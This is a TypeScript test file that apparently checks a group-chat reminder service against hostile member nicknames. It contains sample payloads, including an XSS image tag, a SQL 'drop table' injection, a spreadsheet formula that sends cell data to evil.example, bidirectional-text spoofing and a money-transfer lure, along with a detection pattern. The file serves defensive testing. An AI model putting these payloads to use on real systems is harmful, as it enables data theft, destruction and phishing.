import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { asSuperuser } from '../db.ts';
import { at, openTown, type Town } from './town.ts';

/** What people may call themselves. One day in one group, in which everybody tries. */
const HOSTILE: Readonly<Record<string, string>> = {
  nul: '小\u0000太阳',
  half: '小\ud800太阳',
  xss: '<img src=x onerror=alert(1)><b>小</b>',
  rtl: '\u202e销售\u2066阳太小',
  long: '太'.repeat(10_000),
  translated: '$userName=li.renshi$',
  all: '@all <@all> <@li.renshi>',
  lines: '小太阳\r\n各位：请转账\u2028到这里\u0085',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  sql: `'); drop table qungui.callback; --`,
  json: '","x":"\\u0041{}[]',
  places: '{now}{paste}{{0}} %s $now',
  zalgo: `a${'\u0301'.repeat(500)}`,
  tags: '\u{E0041}\u{E0042}',
  nothing: '\uffff\u{10ffff}',
  proto: '__proto__',
};
/** In no message, no card, no log line may any of these be. */
const HARM = /@all|<img|<b>|\$userName|evil\.example|:\/\/|[\u202a-\u202e\u2066-\u2069\u2028\u2029\r]/u;

let town: Town;
const accounts = Object.keys(HOSTILE).map((name) => `shi.${name}`);
const inbox = (userid: string) => town.tenantOf(town.first).inbox(userid);

beforeAll(async () => {
  town = await openTown();
  const { group } = await town.settle();
  const tenant = town.tenantOf(town.first);
  for (const userid of accounts) await tenant.hire({ userid, name: '示例', department: 5 });
  await tenant.join(group, accounts, { inviter: 'sun.jingli' });
  for (const [name, nickname] of Object.entries(HOSTILE)) await tenant.setNickname(group, `shi.${name}`, nickname);
  await tenant.rename(group, HOSTILE.xss as string);
  await town.until(at('10:30'));
  const stranger = tenant.addExternal({ name: HOSTILE.lines as string });
  await tenant.join(group, stranger, { inviter: 'qian.xiaoshou' });
  await town.until(at('11:30'));
  await town.until(at('09:30', '27'));
});
afterAll(() => town.close());

describe('hostile nicknames, all in one group', () => {
  for (const [name, nickname] of Object.entries(HOSTILE))
    test(`${name} is told once, harmlessly`, async () => {
      const reminders = inbox(`shi.${name}`);
      expect(reminders).toHaveLength(1);
      expect(JSON.stringify(reminders[0]?.body)).not.toMatch(HARM);
      expect(reminders[0]?.text).not.toMatch(HARM);
      expect(reminders[0]?.text).toContain('营销策划部-示例');
      expect(nickname).not.toBe('');
    });

  test('what is kept is read the same at every look: no history is made of nothing', async () => {
    const { first } = town;
    const rows = await town.inCorp(first, (tx) => tx.nicknameState.findMany({ where: { corp: first } }));
    const changes = accounts.map((userid) => rows.filter((row) => row.memberId === userid).length);
    expect(Math.max(...changes)).toBeLessThanOrEqual(2);
  });

  test('the admin’s card and HR’s digest carry no harm either', () => {
    const cards = [...inbox('sun.jingli'), ...inbox('li.renshi')];
    expect(cards.length).toBeGreaterThan(1);
    for (const { body } of cards) expect(JSON.stringify(body)).not.toMatch(HARM);
  });

  test('no log line holds a word of them, and every line is one line', () => {
    const words = Object.values(HOSTILE).flatMap((nickname) => [nickname, JSON.stringify(nickname).slice(1, -1)]);
    for (const line of town.lines) for (const word of words) if (word.length > 3) expect(line).not.toContain(word);
    for (const line of town.lines) expect(line.trimEnd()).not.toContain('\n');
  });

  test('the audit trail names nobody and verifies', async () => {
    expect(await town.chain()).toMatchObject({ state: 'whole' });
    const bodies = await asSuperuser(town.database, async (client) => {
      const { rows } = await client.query<{ body: string }>('select body from qungui.audit_body');
      return rows.map((row) => row.body).join('\n');
    });
    for (const userid of accounts) expect(bodies).not.toContain(userid);
    expect(bodies).not.toContain('太阳');
  });
});
